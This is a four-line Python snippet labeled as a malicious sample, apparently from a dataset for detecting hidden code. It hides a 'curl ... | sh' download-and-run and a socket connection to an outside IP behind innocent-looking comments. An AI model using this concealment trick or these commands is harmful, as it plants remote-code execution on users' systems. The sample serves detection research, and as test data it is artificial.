# label: malicious family=unicode techniques=T1027,T1059.004,T1105,T1564 lines=4,6
import os
print("updating packages")  # harmless os.system("curl -s http://198.51.100.38/c | sh")
x = 1 # doneimport socket;socket.create_connection(("198.51.100.38", 80))
